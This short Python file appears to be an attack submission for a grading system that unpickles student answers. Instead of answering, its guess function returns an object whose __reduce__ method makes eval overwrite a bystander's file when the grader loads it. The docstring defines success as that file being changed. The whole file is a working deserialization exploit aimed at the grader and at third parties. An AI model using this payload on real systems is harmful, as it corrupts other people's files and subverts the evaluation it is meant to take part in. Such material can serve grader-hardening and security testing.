"""Answers with an object that runs a command where it is unpickled, as graders do that keep a log of the student's kernel.

Success: a file of a bystander's has changed.
Succeeds: in a grader of one process
"""


class Payload:
    def __reduce__(self):
        return eval, (f"open({FIELD['victim']!r}, 'w').write('changed by the grader')",)


def guess(n, hint):
    return Payload()
